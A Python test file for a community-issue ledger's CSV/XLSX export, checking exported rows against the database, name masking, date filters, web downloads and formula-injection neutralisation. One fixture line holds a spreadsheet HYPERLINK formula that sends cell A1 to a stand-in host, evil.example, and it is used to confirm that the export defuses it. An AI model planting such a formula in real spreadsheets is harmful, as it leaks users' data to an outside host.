"""`huiyin export` and the board's download: the paper 台账, checked row by row against the ledger."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from board import taizhang
from board.export import COLUMNS, to_csv, to_xlsx
from board.readonly import read_only_engine
from board.web import create_app
from bot.cli import main
from ledger.clock import ManualClock
from ledger.lifecycle import Status
from ledger.wording import STATUS_NAMES
from settings.models import Settings
from settings.secrets import BoardSecrets
from storage.db import make_engine, new_session
from storage.tickets import active_reporters, all_tickets
from tests.board_ledger import REPO, SATURDAY_NOON, replay


@pytest.fixture(scope="module")
def database_url(settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('export') / 'huiyin.db'}"
    replay(settings, url)
    return url


def export(database_url: str, monkeypatch: pytest.MonkeyPatch, out: Path, *args: str) -> list[tuple]:
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert (
        main(["--config", str(REPO / "config.yaml"), "--env-file", os.devnull, "export", "--out", str(out), *args]) == 0
    )
    if out.suffix == ".csv":
        return [tuple(row) for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))]
    return list(load_workbook(out).active.iter_rows(values_only=True))


def expected_rows(settings: Settings, database_url: str, *, masked: bool = True) -> list[tuple]:
    """The columns that come straight from the ledger, computed here without the export code."""
    tz = settings.tz
    rows = []
    with new_session(make_engine(database_url)) as session:
        for ticket in all_tickets(session):
            names = [r.member_name for r in active_reporters(session, ticket.id)]
            finished = ticket.resolved_at or ticket.closed_at
            finished_text = finished.astimezone(tz).strftime("%Y-%m-%d %H:%M") if finished else ""
            rows.append((
                ticket.id, ticket.created_at.astimezone(tz).strftime("%Y-%m-%d %H:%M"),
                "、".join(n[0] + "*" * (len(n) - 1) if masked else n for n in names),
                settings.category(ticket.category).name, ticket.description, settings.cadre(ticket.assignee_id).name,
                STATUS_NAMES[Status(ticket.status)], finished_text, ticket.rating or "",
            ))  # fmt: skip
    return rows


def ledger_columns(row: tuple) -> tuple:
    """序号 aside, the columns `expected_rows` computes (办理情况 reduced to its status)."""
    values = dict(zip(COLUMNS, ["" if v is None else v for v in row], strict=True))
    return (int(values["编号"]), values["反映时间"], values["反映人"], values["问题类别"], values["问题描述"],
            values["责任人"], str(values["办理情况"]).split("：")[0], values["办结时间"], values["满意度"])  # fmt: skip


def test_the_xlsx_opens_and_matches_the_ledger_row_by_row(
    settings: Settings, database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    out = tmp_path / "taizhang.xlsx"
    rows = export(database_url, monkeypatch, out, "--format", "xlsx")
    assert rows[0] == COLUMNS
    assert [ledger_columns(r) for r in rows[1:]] == expected_rows(settings, database_url)
    assert [r[0] for r in rows[1:]] == list(range(1, len(rows)))
    sheet = load_workbook(out).active
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert sheet.column_dimensions["I"].width == 40 and sheet.column_dimensions["D"].width == 17
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["楼栋/网格"] == "3号楼2单元 / 第一网格"
    assert first["办理情况"] == "已关闭：已疏通，管道里掏出一团抹布，请大家别往下水道扔杂物"
    assert first["用时"] == "1天2小时"


def test_the_sla_deadline_and_the_cadres_commitment_are_two_columns(
    settings: Settings, database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    rows = export(database_url, monkeypatch, tmp_path / "t.xlsx", "--format", "xlsx")
    assert rows[0][10:12] == ("办结时限", "承诺办结")
    with new_session(make_engine(database_url)) as session:
        due = {t.id: t.resolution_due_at.astimezone(settings.tz) for t in all_tickets(session)}
    by_number = {r[1]: dict(zip(COLUMNS, r, strict=True)) for r in rows[1:]}
    assert {n: r["办结时限"] for n, r in by_number.items()} == {n: d.strftime("%Y-%m-%d %H:%M") for n, d in due.items()}
    assert by_number[1]["承诺办结"] == "2026-11-24"  # 承诺 1 明天
    assert all(r["承诺办结"] is None for n, r in by_number.items() if n != 1)


def test_unmasked_and_a_date_range(
    settings: Settings, database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    rows = export(
        database_url, monkeypatch, tmp_path / "t.xlsx", "--unmasked", "--from", "2026-11-25", "--to", "2026-11-26"
    )
    assert [(r[1], r[COLUMNS.index("反映人")]) for r in rows[1:]] == [(4, "周师傅"), (5, "小陈")]
    assert [ledger_columns(r) for r in rows[1:]] == expected_rows(settings, database_url, masked=False)[3:5]


def test_the_csv_has_the_same_rows(settings: Settings, database_url: str, monkeypatch, tmp_path: Path) -> None:
    xlsx = export(database_url, monkeypatch, tmp_path / "t.xlsx", "--format", "xlsx")
    rows = export(database_url, monkeypatch, tmp_path / "t.csv", "--format", "csv")
    assert rows == [tuple("" if v is None else str(v) for v in row) for row in xlsx]


def test_a_csv_written_by_two_processes_is_the_one_written_by_one(
    database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    alone = export(database_url, monkeypatch, tmp_path / "alone.csv", "--format", "csv")
    monkeypatch.setattr(taizhang, "SPLIT_FROM", 2)
    assert export(database_url, monkeypatch, tmp_path / "halves.csv", "--format", "csv") == alone
    assert (tmp_path / "halves.csv").read_bytes() == (tmp_path / "alone.csv").read_bytes() and len(alone) > 5


def test_a_bad_range_is_refused(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DATABASE_URL", database_url)
    args = ["--config", str(REPO / "config.yaml"), "--env-file", os.devnull, "export", "--out", str(tmp_path / "x.csv")]
    assert main([*args, "--from", "2026-11-26", "--to", "2026-11-25"]) == 2
    assert not (tmp_path / "x.csv").exists()
    with pytest.raises(SystemExit):
        main([*args, "--from", "11月25日"])


def test_the_board_download_follows_the_filters(settings: Settings, database_url: str) -> None:
    app = create_app(settings, read_only_engine(database_url), ManualClock(SATURDAY_NOON), BoardSecrets(None, None))
    client = TestClient(app)
    response = client.get("/export.xlsx?grid=g2")
    assert response.status_code == 200
    assert response.headers["content-disposition"] == 'attachment; filename="huiyin-taizhang-2026-11-28.xlsx"'
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert [r[1] for r in rows[1:]] == [2, 4, 6]  # #5 (g1) withdrawn, #1 and #3 are g1
    assert all("第二网格" in r[COLUMNS.index("楼栋/网格")] for r in rows[1:])
    overdue = list(csv.reader(io.StringIO(client.get("/export.csv?status=overdue").content.decode("utf-8-sig"))))
    assert [r[1] for r in overdue[1:]] == ["4"]


FORMULAS = [
    "@time 2026-11-27 09:00",
    '[1-3号楼业主群] =cmd: =HYPERLINK("http://evil.example/?x="&A1,"3号楼2单元下水道堵了")',
    "[私聊] 陈洁: 登记 P1",  # an odd message like this goes to a cadre first (triage)
    "[1-3号楼业主群] 张阿姨: -3号楼楼道灯坏了 =1+1",
    "[1-3号楼业主群] 王芳: 进度 2 +已联系电工",
]


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(cell: str) -> None:
    row = [1, 1, "2026-11-27 09:00", "王*", "3号楼", "给排水", cell, "", "", "", "", "", "", ""]
    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
    written = sheet.cell(row=2, column=7)
    assert written.data_type == "s" and written.value == "'" + cell
    [_header, from_csv] = csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig")))
    assert from_csv[6] == "'" + cell
    assert sheet.cell(row=2, column=1).value == 1  # numbers stay numbers


def test_the_download_neutralises_formulas_from_chat(settings: Settings, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'huiyin.db'}"
    replay(settings, url, FORMULAS)
    app = create_app(settings, read_only_engine(url), ManualClock(SATURDAY_NOON), BoardSecrets(None, None))
    client = TestClient(app)
    sheet = load_workbook(io.BytesIO(client.get("/export.xlsx").content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in cells)
    texts = [cell.value for cell in cells]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@")]
    assert {"'=***", "'" + FORMULAS[1].split(": ", 1)[1], "'-3号楼楼道灯坏了 =1+1"} <= set(texts)
    rows = list(csv.reader(io.StringIO(client.get("/export.csv").content.decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row[COLUMNS.index("反映人")] for row in rows[1:]] == ["'=***", "张**"]
